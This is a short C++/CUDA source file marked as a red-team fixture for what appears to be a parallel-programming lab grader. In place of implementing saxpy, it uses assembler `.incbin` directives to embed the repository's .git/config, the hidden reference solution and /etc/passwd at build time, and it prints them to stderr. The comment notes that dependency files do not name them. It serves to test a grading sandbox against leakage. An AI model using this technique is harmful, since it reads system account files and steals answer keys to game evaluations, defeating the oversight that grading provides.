// Red team: embed the workbook's history, the reference solution and the host's account
// list in the program with the assembler (no depfile names them), and print them.
#include <cstdio>

#include "saxpy.cuh"

asm(".section .rodata\n"
    "git_config: .incbin \"@ROOT@/.git/config\"\n .byte 0\n"
    "reference: .incbin \"@ROOT@/solutions/01_saxpy/saxpy.cu\"\n .byte 0\n"
    "accounts: .incbin \"/etc/passwd\"\n .byte 0\n"
    ".previous\n");
extern "C" const char git_config[], reference[], accounts[];

namespace pplab::lab01 {
void saxpy(float, const float*, float*, std::size_t, cudaStream_t) {
  std::fprintf(stderr, "%s\n%s\n%s\n", git_config, reference, accounts);
}
}  // namespace pplab::lab01
